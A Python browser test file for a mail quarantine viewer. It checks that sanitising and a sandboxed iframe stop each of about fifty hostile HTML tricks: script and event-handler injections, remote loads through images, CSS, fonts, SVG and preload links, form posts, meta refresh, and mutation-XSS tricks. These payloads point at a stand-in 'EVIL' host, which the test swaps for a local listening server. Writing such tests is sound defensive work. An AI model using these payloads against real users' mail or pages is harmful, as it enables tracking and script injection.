"""The security checklist, mail on a page: each dead thing by itself, in a real browser. Skipped as
`test_admin_browser` is.

24, an iframe with an empty sandbox, its own route and policy -> `test_S_24_the_frame_alone_holds_each` (without the
    sanitiser, so that the frame is what holds); depth, size, time, allow-list -> test_examine_sanitised
25, images, fonts, CSS, @import, srcset, SVG, base, meta refresh, ping, prefetch and the rest ->
    `test_S_25_each_dead_thing_is_dead` (as it is), and the same without the sanitiser
"""

from __future__ import annotations

import socket
import threading
from functools import partial
from typing import Any

from twisted.internet.defer import Deferred
from twisted.internet.threads import deferToThread
from twisted.trial.unittest import TestCase

from tests.admin_kit import PASSWORD
from tests.browser_kit import chromium, listen, log_in, need_browser
from tests.test_admin_viewer import ViewerCase

#: What each tries; EVIL is a server that somebody else has, NAME what it is told by.
DEAD = {
    "image": "<img src=EVIL>",
    "broken-image": "<img src=x onerror=\"parent.hurt='NAME';top.hurt='NAME'\">",
    "srcset": "<img srcset='EVIL 1x, EVIL 2x'>",
    "picture": "<picture><source srcset=EVIL><img src=EVIL></picture>",
    "lazy-image": "<img loading=eager fetchpriority=high src=EVIL>",
    "input-image": "<input type=image src=EVIL>",
    "font": "<style>@font-face { font-family: f; src: url(EVIL) } p { font-family: f }</style><p>x</p>",
    "css-url": "<style>p { background: url(EVIL) }</style><p>x</p>",
    "css-import": "<style>@import 'EVIL';</style>",
    "css-escaped": "<p style='background:u\\72l(EVIL)'>x</p>",
    "css-image-set": "<p style='background-image:image-set(\"EVIL\" 1x)'>x</p>",
    "css-cursor": "<p style='cursor:url(EVIL),auto;list-style:url(EVIL)'>x</p>",
    "css-content": "<style>p::before { content: url(EVIL) }</style><p>x</p>",
    "css-variable": "<style>p { --x: url(EVIL); background: var(--x) }</style><p>x</p>",
    "link-style": "<link rel=stylesheet href=EVIL>",
    "link-icon": "<link rel=icon href=EVIL>",
    "prefetch": "<link rel=prefetch href=EVIL>",
    "preload": "<link rel=preload as=image href=EVIL>",
    "preconnect": "<link rel=preconnect href=EVIL><link rel=dns-prefetch href=EVIL>",
    "modulepreload": "<link rel=modulepreload href=EVIL>",
    "manifest": "<link rel=manifest href=EVIL>",
    "svg-image": "<svg><image href=EVIL /><image xlink:href=EVIL /><use href='EVIL#x'/></svg>",
    "svg-load": "<svg onload=\"parent.hurt='NAME'\"><script>parent.hurt='NAME'</script></svg>",
    "svg-foreign": "<svg><foreignObject><iframe src=EVIL></iframe></foreignObject></svg>",
    "svg-filter": "<svg><filter id=f><feImage href=EVIL /></filter><rect width=9 height=9 filter='url(EVIL#f)'/></svg>",
    "base": "<base href='BASE'><img src='NAME'><a href='NAME'>x</a>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=EVIL'>",
    "meta-csp": '<meta http-equiv=Content-Security-Policy content="default-src *"><img src=EVIL>',
    "ping": "<a href='#x' ping=EVIL autofocus>x</a>",
    "form": "<form action=EVIL method=post target=_top><input name=a value=b><button autofocus>x</button></form>",
    "frame": "<iframe src=EVIL></iframe><frameset><frame src=EVIL></frameset>",
    "srcdoc": "<iframe srcdoc='<img src=EVIL><script>top.hurt=1</script>'></iframe>",
    "object": "<object data=EVIL></object><embed src=EVIL><applet code=EVIL></applet>",
    "video": "<video src=EVIL poster=EVIL autoplay><track src=EVIL default></video><audio src=EVIL autoplay></audio>",
    "background": "<body background=EVIL><table background=EVIL><td background=EVIL>x</table>",
    "script": "<script>parent.hurt='NAME';top.hurt='NAME';fetch('EVIL')</script><script src=EVIL></script>",
    "module": "<script type=module>import 'EVIL'</script><script type=importmap>{}</script>",
    "handler": "<details open ontoggle=\"parent.hurt='NAME'\">x</details><body onload=\"parent.hurt='NAME'\">",
    "focus": "<input autofocus onfocus=\"top.hurt='NAME'\">",
    "animation": "<style>@keyframes k {}p{animation:k 1s}</style><p onanimationstart=\"top.hurt='NAME'\">x</p>",
    "javascript": "<iframe src=\"javascript:top.hurt='NAME'\"></iframe><a href=\"javascript:top.hurt='NAME'\">x</a>",
    "data-page": "<iframe src=\"data:text/html,<script>top.hurt='NAME'</script>\"></iframe>",
    "template": "<template shadowrootmode=open><img src=EVIL></template>",
    "mathml": "<math href=EVIL><mtext><table><mglyph><style><img src=EVIL onerror=\"top.hurt='NAME'\">",
    "noscript": "<noscript><p title='</noscript><img src=EVIL>'></noscript>",
    "portal": "<portal src=EVIL></portal><fencedframe src=EVIL></fencedframe>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL"]}]}</script>',
    "report": "<meta http-equiv=Report-To content='EVIL'><meta name=referrer content=unsafe-url><img src=EVIL>",
}


class Evil:
    """A server that notes what it is asked for."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.place = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
        self.asked: list[str] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self.sock.accept()
            except OSError:
                return
            with client:
                client.settimeout(5)
                try:
                    self.asked.append(client.recv(4096)[:300].decode("latin-1") or "connection")
                    client.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                except OSError:
                    self.asked.append("connection")


class DeadThingTests(ViewerCase, TestCase):
    """One message with a part for each."""

    timeout = 120

    def setUp(self) -> None:
        need_browser()
        super().setUp()
        self.desk.users.add_user("ann", "owner", PASSWORD)
        self.base = listen(self, self.desk)
        # One for each, so that it is known whose a connection is that says nothing.
        self.evil = {name: Evil() for name in DEAD}
        for one in self.evil.values():
            self.addCleanup(one.sock.close)

    def markup(self, name: str) -> str:
        """What one tries."""
        place = self.evil[name].place
        return DEAD[name].replace("EVIL", f"{place}/{name}").replace("BASE", f"{place}/").replace("NAME", name)

    def asked(self) -> dict[str, list[str]]:
        """What was asked for, and by what."""
        return {name: one.asked for name, one in self.evil.items() if one.asked}

    def mails(self) -> list[tuple[str, list[str]]]:
        """Held messages, and what is in each."""
        found = []
        names = list(DEAD)
        for at in range(0, len(names), 10):
            some = names[at : at + 10]
            parts = "".join(
                f"--b\r\nContent-Type: text/html\r\n\r\n<p>part {name}</p>{self.markup(name)}\r\n" for name in some
            )
            head = "From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
            found.append((self.held(f"{head}{parts}--b--\r\n".encode()), some))
        return found

    def test_S_25_each_dead_thing_is_dead(self) -> None:
        """As it comes: nothing is asked for, nothing runs, nothing leads away."""
        return self.begin(False)  # type: ignore[return-value]

    def test_S_24_the_frame_alone_holds_each(self) -> None:
        """The same where nothing was taken out of it: sandbox and policy hold by themselves."""
        return self.begin(True)  # type: ignore[return-value]

    def begin(self, is_raw: bool) -> Deferred[Any]:
        """In a thread."""
        mails = self.mails()
        return deferToThread(self.browse, mails, is_raw)

    def browse(self, mails: list[tuple[str, list[str]]], is_raw: bool) -> None:
        """Each frame of each message."""
        trouble: list[str] = []
        shown = 0
        with chromium() as browser:
            context = browser.new_context()
            page = context.new_page()
            context.on("page", lambda other: trouble.append(f"window {other.url}"))
            page.on("dialog", lambda dialog: (trouble.append("dialog"), dialog.dismiss()))
            log_in(page, self.base)
            for id, names in mails:
                if is_raw:
                    page.route("**/frame/*", partial(self.put, names))
                page.goto(f"{self.base}/quarantine/{id}/view", wait_until="load")
                page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
                for frame in page.locator("iframe.locked").all():
                    frame.scroll_into_view_if_needed()
                    content = frame.content_frame.locator("p").first
                    content.wait_for(state="attached")
                    shown += 1
                page.wait_for_timeout(300)
                self.assertIsNone(page.evaluate("window.hurt ?? null"))
                self.assertTrue(page.url.startswith(f"{self.base}/quarantine/"), page.url)
                page.unroute_all()
        # No policy holds Chromium from a connection beforehand, as for a frame that it then does not load: that is the
        # sanitiser's alone.
        asked = {
            name: [one for one in said if one != "connection" or not is_raw] for name, said in self.asked().items()
        }
        self.assertEqual({name: said for name, said in asked.items() if said}, {})
        self.assertEqual(trouble, [])
        self.assertEqual(shown, len(DEAD))

    def put(self, names: list[str], route: Any) -> None:
        """The answer as it is, with what the message had in place of what was made of it."""
        answer = route.fetch()
        number = int(route.request.url.rpartition("/")[2]) - 1
        name = names[number % len(names)]
        route.fulfill(response=answer, body=f"<!doctype html><p>part {name}</p>{self.markup(name)}")
